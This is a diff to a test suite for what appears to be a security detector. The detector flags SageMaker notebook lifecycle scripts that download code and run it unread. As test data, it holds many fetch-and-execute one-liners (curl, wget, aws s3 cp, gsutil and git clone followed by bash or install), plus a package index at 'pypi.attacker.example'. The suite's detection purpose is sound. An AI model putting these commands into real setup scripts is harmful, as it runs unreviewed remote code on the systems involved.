@@ -51,7 +51,8 @@ describe('notebook lifecycle scripts', () => {
     expect(ev.details).toMatchObject({
       lifecycle_scripts: true, script_hooks: ['on_start'],
       script_code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
-      script_piped_to_shell: ['https://paste.example.net/raw/a1b2'],
+      // The agent copied from S3 and run by the next command is run unread too.
+      script_piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'],
       script_package_sources: ['https://pypi.attacker.example/simple'],
       script_secret_in: ['on_start'],
     });
@@ -87,21 +88,24 @@ describe('notebook lifecycle scripts', () => {
     const ev = rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-setup', studioLifecycleConfigContent: b64(ATTACK), studioLifecycleConfigAppType: 'JupyterLab' }, {
       responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/jl-setup` },
     });
-    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['https://paste.example.net/raw/a1b2'], script_secret_in: ['studio'] });
+    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], script_secret_in: ['studio'] });
     expect(JSON.stringify(ev.raw)).not.toContain('wJalrXUtnFEMI');
     expect((ev.raw as { requestParameters: Record<string, unknown> }).requestParameters.studioLifecycleConfigContent).toBe('[redacted]');
     const [a, ...more] = alertsOf([ev]);
     expect(more).toEqual([]);
-    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['https://paste.example.net/raw/a1b2'] });
+    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'] });
   });
 
   it('alert on a download piped into a shell and a foreign package index by default; other downloads once trusted_code_locations is set', () => {
     const [a, ...more] = alertsOf([lifecycle('lc-tools', ATTACK)]);
     expect(more).toEqual([]);
     expect(a!.entity).toMatchObject({ type: 'notebook_instance_lifecycle_config', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/lc-tools` });
-    expect(a!.details).toMatchObject({ piped_to_shell: ['https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'], code_uris: ['https://paste.example.net/raw/a1b2'] });
+    expect(a!.details).toMatchObject({
+      piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'],
+      code_uris: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'],
+    });
     const rules = { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } };
-    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh']);
+    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2']);
     // The team's script from its trusted bucket, PyPI: nothing, with or without the list.
     expect(alertsOf([lifecycle('lc-team', TEAM)], rules)).toEqual([]);
     expect(alertsOf([lifecycle('lc-team', TEAM)])).toEqual([]);
@@ -109,6 +113,36 @@ describe('notebook lifecycle scripts', () => {
     expect(alertsOf([lifecycle('lc-x', 'aws s3 cp s3://sagemaker-us-east-1-999988887777/setup.sh /tmp/s.sh\nbash /tmp/s.sh')])[0]!.details?.code_uris).toEqual(['s3://sagemaker-us-east-1-999988887777/setup.sh']);
     // An upload (local source) is no download.
     expect(lifecycle('lc-y', 'aws s3 cp /home/ec2-user/SageMaker s3://ml-backups/alice --recursive').details?.script_code_uris).toBeUndefined();
+  });
+});
+
+describe('download-then-run in lifecycle scripts', () => {
+  const piped = (script: string) => lifecycle('lc-dl', script).details?.script_piped_to_shell;
+  it('a file fetched and later run by the same script is run unread, as a pipe into a shell is', () => {
+    expect(piped('#!/bin/bash\nset -e\ncurl -fsSL -o x.sh https://tools.example.net/x.sh && bash x.sh')).toEqual(['https://tools.example.net/x.sh']);
+    expect(piped('#!/bin/bash\nwget https://tools.example.net/a -O /tmp/a; sh /tmp/a')).toEqual(['https://tools.example.net/a']);
+    expect(piped('#!/bin/bash\naws s3 cp s3://scratch-share-9931/x.sh /tmp/x.sh && bash /tmp/x.sh')).toEqual(['s3://scratch-share-9931/x.sh']);
+    expect(piped('#!/bin/bash\ngsutil cp gs://scratch-share/tools/run.sh . && chmod +x run.sh && ./run.sh')).toEqual(['gs://scratch-share/tools/run.sh']);
+    // Across lines, under sudo, with -O (the URL's name), into a directory (-P), and a clone run from inside it.
+    expect(piped('#!/bin/bash\ncurl -sSLO https://tools.example.net/setup.sh\nsudo -u ec2-user -i bash ./setup.sh --quiet')).toEqual(['https://tools.example.net/setup.sh']);
+    expect(piped('#!/bin/bash\nwget -q -P /opt/t https://tools.example.net/boot.py\nnohup python3 /opt/t/boot.py &')).toEqual(['https://tools.example.net/boot.py']);
+    expect(piped('#!/bin/bash\ngit clone https://github.com/someone/nb-tools.git /opt/nb-tools\ncd /opt/nb-tools && ./install.sh')).toEqual(['https://github.com/someone/nb-tools.git']);
+    // A package fetched and installed (pip runs its build).
+    expect(piped('#!/bin/bash\ncurl -sL https://tools.example.net/helper-1.0.tar.gz -o /tmp/w/helper-1.0.tar.gz\npip install /tmp/w/*.tar.gz')).toEqual(['https://tools.example.net/helper-1.0.tar.gz']);
+  });
+  it('a fetched file only read (a config handed to a program, cat) is not run; a pip download then install is judged by its index', () => {
+    expect(piped('#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json && python3 /opt/app.py --config /etc/jupyter/conf.json')).toBeUndefined();
+    expect(piped('#!/bin/bash\naws s3 cp s3://ml-platform-code/env.sh /tmp/env.sh\ncat /tmp/env.sh\nbash /opt/other.sh')).toBeUndefined();
+    expect(alertsOf([lifecycle('lc-conf', '#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json')])).toEqual([]);
+    const pipDl = lifecycle('lc-pip', '#!/bin/bash\npip download -i https://pypi.attacker.example/simple jupyter-helpers -d /tmp/w && pip install --no-index --find-links /tmp/w jupyter-helpers');
+    expect(alertsOf([pipDl]).map((a) => a.details?.package_sources)).toEqual([['https://pypi.attacker.example/simple']]);
+  });
+  it('alerts by default; trusted_code_locations still apply to the URL', () => {
+    const ev = lifecycle('lc-dl', '#!/bin/bash\naws s3 cp s3://ml-platform-code/lifecycle/setup.sh /tmp/setup.sh && bash /tmp/setup.sh');
+    const [a, ...more] = alertsOf([ev]);
+    expect(more).toEqual([]);
+    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', piped_to_shell: ['s3://ml-platform-code/lifecycle/setup.sh'] });
+    expect(alertsOf([ev], { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } })).toEqual([]);
   });
 });
 
